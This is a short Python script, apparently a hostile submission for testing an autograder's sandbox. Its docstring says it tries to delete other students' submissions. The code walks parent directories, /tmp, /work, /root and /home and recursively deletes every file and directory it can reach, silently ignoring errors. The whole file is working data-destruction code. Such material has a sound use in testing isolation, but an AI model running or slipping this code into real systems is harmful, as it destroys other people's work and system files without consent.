"""Tries to delete other students' submissions and anything else it can find."""
import os
import shutil

for root in ("..", "../..", "../../..", "/tmp", "/work", "/root", "/home"):
    try:
        for entry in os.listdir(root):
            path = os.path.join(root, entry)
            try:
                if os.path.isdir(path) and not os.path.islink(path):
                    shutil.rmtree(path)
                else:
                    os.unlink(path)
            except OSError:
                pass
    except OSError:
        pass
